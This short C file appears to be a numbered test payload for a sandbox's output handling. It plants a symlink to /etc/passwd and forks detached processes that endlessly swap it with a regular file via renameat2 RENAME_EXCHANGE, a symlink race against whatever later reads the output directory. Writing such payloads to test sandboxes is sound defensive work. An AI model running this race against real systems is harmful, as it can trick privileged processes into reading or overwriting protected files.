/* OUT-05 */
#include "payload.h"

int main(void) {
  mkdir("/box/out", 0755);
  int fd = open("/box/out/swap", O_CREAT | O_WRONLY, 0644);
  if (write(fd, "mine", 4) != 4 || symlink("/etc/passwd", "/box/out/other") != 0) return 1;
  for (int i = 0; i < 4; ++i) {
    if (fork() == 0) {
      setsid();
      for (;;) renameat2(AT_FDCWD, "/box/out/swap", AT_FDCWD, "/box/out/other", RENAME_EXCHANGE);
    }
  }
  usleep(50000);
  say("swapping", "yes");
  return 0;
}
